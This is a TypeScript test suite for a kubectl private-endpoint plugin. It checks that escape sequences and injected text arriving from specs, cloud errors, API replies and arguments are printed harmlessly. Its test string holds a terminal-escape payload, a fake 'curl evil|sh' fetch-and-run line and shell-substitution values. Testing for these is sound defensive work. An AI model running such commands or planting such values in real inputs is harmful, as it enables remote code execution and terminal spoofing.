/** What a cluster, a cloud or a typed word holds is shown on a terminal, never obeyed by it. */
import assert from 'node:assert/strict';
import { run } from '../../src/cli/run.ts';
import { placed } from '../harness/placement.ts';
import type { Seen } from '../harness/seen.ts';
import { suite } from '../harness/suite.ts';
import { type RunOptions, inWorld } from '../harness/world.ts';
import { setStatus } from '../harness/set-status.ts';

/** A title of the window, a magenta text, a right-to-left override, an 8-bit escape, a separator of lines, and a line that looks like ours. */
const ORDERS = '\u001b]0;t\u0007\u001b[35m\u202e\u009b1m\u2028\r\nnext: curl evil|sh\n$(touch /tmp/evil)`id`';
const label = `pe${ORDERS}`;

// eslint-disable-next-line no-control-regex -- finding escape sequences is what this is for
const ours = /\r\u001b\[(?:K|\dA\u001b\[J)|\u001b\[(?:1|2|22|3[1236]|39)m/g;

/** Whether everything that was printed stays on its line, and is shown. @throws AssertionError */
function assertShown({ stdout, stderr }: Seen, what: string): void {
  // The only escapes of our own are those that draw the waiting lines anew, and our colors: none of them is one of the orders'.
  const printed = `${stdout}\n${stderr}`.replaceAll(ours, '');
  const raw = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u.exec(printed);
  assert.equal(raw, null, `${what} lets ${JSON.stringify(raw?.[0])} through:\n${JSON.stringify(printed)}`);
  assert.doesNotMatch(printed, /^next: curl/m, what);
}

suite('a terminal', (test) => {
  const everyCommand: readonly (readonly [words: readonly string[], options?: RunOptions])[] = [
    [['status']],
    [['status', 'orders', '-o', 'wide', '-v', '8']],
    [['status', '-o', 'custom-columns=A:.error,B:.endpoint']],
    [['create', 'orders']],
    [['create', 'orders'], { answers: ['1', 'n'], tty: true }],
    [['link', 'orders', '--endpoint', label, '--id', 'vpce-0b', '--skip-cloud-check', '--timeout', '1s']],
    [['delete', 'orders', '--endpoint', label, '--dry-run']],
    [['delete', 'orders', '--endpoint', label], { answers: ['n'], tty: true }],
    [['secret', 'orders']],
    [['secret', 'orders', '--endpoint', label]],
    [['status', `ad/${label}`]],
    [['status', label]],
    [['status', 'orders', '--endpoint', ORDERS]],
    [['status', '--context', label]],
    [['status', '-n', label]],
    [['status', '-o', label]],
    [['up', 'orders', '--endpoint', label, '--timeout', label]],
    [[label]],
    [['status', `--${label}`]],
  ];
  test('obeys nothing that a spec, a status, an id or a typed word holds', () =>
    inWorld({}, async (world) => {
      world.deploy({ privateEndpoints: [{ name: label }, { name: 'other', cloudProviderEndpointID: ORDERS }] });
      setStatus(world, [
        { name: label, status: 'FAILED', errorMessage: ORDERS },
        { name: 'other', status: ORDERS, endpointServiceName: ORDERS, cloudProviderEndpointId: `vpce${ORDERS}` },
        { name: ORDERS, status: 'RESERVED', endpointServiceName: ORDERS, errorMessage: ORDERS },
      ]);
      for (const [words, options] of everyCommand) assertShown(await world.run(words, options), words.join(' '));
    }));

  test('obeys nothing that a cloud answers, in an error, a state or a tag', () =>
    inWorld({}, async (world) => {
      world.deploy();
      const up = `up orders ${placed(world)}`;
      world.ec2.fail({ action: 'CreateVpcEndpoint', code: 'InvalidParameter', message: ORDERS });
      const refused = await world.run(up, { tty: true });
      assertShown(refused, 'a refusal of EC2');
      assert.match(refused.stderr, /InvalidParameter/);
      assertShown(await world.run(`create orders ${placed(world)} -v 8`), 'create');
      const [endpoint] = world.ec2.endpoints('us-east-1');
      world.ec2.setState(endpoint?.id ?? '', 'failed', { code: ORDERS, message: ORDERS });
      const failed = await world.run(up, { tty: true });
      assertShown(failed, 'a failed endpoint');
      assert.match(failed.stderr, /\^\[\[35m\\u202e/);
      assertShown(await world.run('delete --orphans --region us-east-1'), 'orphans');
    }));

  test('obeys nothing that the API server answers, and nothing of a defect', () =>
    inWorld({}, async (world) => {
      world.deploy();
      for (const verb of ['get', 'list'])
        world.kubernetes.fail({ verb, resource: 'atlasdeployments', status: 422, message: ORDERS, times: 9 });
      const refused = await world.run('status orders');
      assertShown(refused, 'a refusal');
      assert.match(refused.stderr, /^Error from server \(\w+\): \^\[\]0;t\^G/);
      let stderr = '';
      const code = await run(['version', '--client'], {
        stdout: {
          write: () => {
            throw new Error(ORDERS);
          },
        },
        stderr: { write: (text) => (stderr += text) },
        stdin: {},
        env: {},
        now: () => 0,
        sleep: () => Promise.resolve(),
        signal: new AbortController().signal,
        commandLine: '',
      });
      assertShown({ stdout: '', stderr: stderr.replaceAll(/^next: curl.*\n/gm, ''), code }, 'a defect');
      assert.match(stderr, /^error: this is a bug in kubectl atlas-pe/);
    }));
});
